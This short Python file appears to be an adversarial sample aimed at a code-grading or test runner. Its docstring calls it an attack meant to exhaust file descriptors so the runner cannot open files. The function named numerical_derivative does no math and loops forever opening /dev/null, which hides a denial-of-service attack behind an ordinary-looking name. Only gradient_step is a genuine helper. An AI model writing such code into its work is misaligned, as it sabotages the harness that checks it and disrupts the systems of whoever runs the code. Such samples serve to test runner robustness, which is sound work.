"""Attack: open file descriptors until none are left, so the runner cannot open any."""

import os


def numerical_derivative(f, x, h=1e-5):
    opened = []
    while True:
        opened.append(os.open("/dev/null", os.O_RDONLY))


def gradient_step(x, grad, learning_rate):
    return x - learning_rate * grad
